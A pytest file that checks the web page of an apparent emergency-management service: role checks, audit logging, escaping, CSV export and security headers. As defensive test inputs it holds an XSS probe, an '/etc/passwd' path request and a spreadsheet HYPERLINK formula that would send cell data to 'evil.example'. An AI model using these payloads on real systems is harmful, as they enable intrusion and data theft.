"""The read-only page over HTTP: who is asking, what they may see, escaping, downloads, security headers."""

import re
import urllib.error
import urllib.parse
import urllib.request

import pytest

from serving.audit import AuditLog
from serving.identity import CallerSource
from tests.emergency.helpers import MUNI, serving

MANAGER = CallerSource(role="emergency_manager", user="dana")
BY_HEADER = CallerSource(role_header="X-Toshav-Role", user_header="X-Toshav-User")


def picker_options(page: str) -> list[str]:
    picker = page[page.index('<select id="q"'):]
    picker = picker[:picker.index("</select>")]
    return re.findall(r'<option value="([a-z_]+)"', picker)


def fetch(url, data=None, headers=None):
    body = urllib.parse.urlencode(data, doseq=True).encode() if data is not None else None
    req = urllib.request.Request(url, data=body, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.headers, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read()


def test_page_is_hebrew_rtl_with_strict_headers(home):
    with serving(home, MANAGER) as base:
        status, headers, body = fetch(base + "/")
        css_status, css_headers, _ = fetch(base + "/style.css")
        missing, _, _ = fetch(base + "/etc/passwd")
    page = body.decode()
    assert status == 200 and '<html lang="he" dir="rtl">' in page
    assert picker_options(page) == ["evacuation_assistance", "power_dependent", "alone_without_support",
                                   "yachad_not_located", "household"]
    assert "default-src 'none'" in headers["Content-Security-Policy"] and "script-src" not in headers["Content-Security-Policy"]
    assert headers["Cache-Control"] == "no-store" and headers["X-Content-Type-Options"] == "nosniff"
    assert css_status == 200 and css_headers["Content-Type"].startswith("text/css")
    assert missing == 404


def test_role_from_proxy_headers(fresh_home):
    with serving(fresh_home, BY_HEADER) as base:
        anonymous, _, _ = fetch(base + "/")
        status, _, body = fetch(base + "/", headers={"X-Toshav-Role": "welfare", "X-Toshav-User": "yossi"})
        denied, _, _ = fetch(base + "/run", {"q": "evacuation_assistance"},
                             headers={"X-Toshav-Role": "welfare", "X-Toshav-User": "yossi"})
    assert anonymous == 403
    assert status == 200
    assert picker_options(body.decode()) == ["alone_without_support", "yachad_not_located", "household"]
    assert denied == 403
    denial, anonymous_entry = AuditLog.of(MUNI, fresh_home).entries()
    assert (denial.subject, denial.role, denial.channel, denial.outcome) == ("yossi", "welfare", "web", "denied")
    assert (anonymous_entry.outcome, anonymous_entry.peer) == ("unauthenticated", "127.0.0.1")


def test_typed_text_and_stored_names_are_escaped(home):
    with serving(home, MANAGER) as base:
        _, _, body = fetch(base + "/run", {"q": "evacuation_assistance", "streets": "<script>alert(1)</script>"})
        _, _, listing = fetch(base + "/run", {"q": "evacuation_assistance", "streets": "סוקולוב"})
    page = body.decode()
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    listing = listing.decode()
    assert '=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;לחץ&#34;)' in listing
    assert 'HYPERLINK("' not in listing


def test_bad_parameters_show_an_error_page(home):
    with serving(home, MANAGER) as base:
        status, _, body = fetch(base + "/run", {"q": "household", "house_number": "12"})
    assert status == 400 and 'role="alert"' in body.decode()


def test_export_downloads(fresh_home):
    with serving(fresh_home, MANAGER) as base:
        status, headers, body = fetch(base + "/export", {"q": "yachad_not_located", "streets": "סוקולב",
                                                         "format": "csv"})
        bad, _, _ = fetch(base + "/export", {"q": "yachad_not_located", "format": "pdf"})
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"].startswith('attachment; filename="yachad_not_located_6600_')
    assert body.startswith(b"\xef\xbb\xbf") and body.decode("utf-8-sig").count("\r\n") == 3
    assert bad == 400
    refused, entry = AuditLog.of(MUNI, fresh_home).entries()
    assert (entry.query, entry.row_count, entry.exports, entry.channel) == ("yachad_not_located", 2, "csv", "web")
    assert (refused.outcome, refused.reason, refused.peer) == ("invalid", "export_format", "127.0.0.1")


@pytest.mark.parametrize("kwargs", [dict(), dict(role="emergency_manager"), dict(user="dana"),
                                    dict(role="emergency_manager", role_header="X-Role", user="dana"),
                                    dict(role="root", user="dana")])
def test_the_server_must_be_told_where_the_caller_comes_from(kwargs):
    with pytest.raises(ValueError):
        CallerSource(**kwargs)
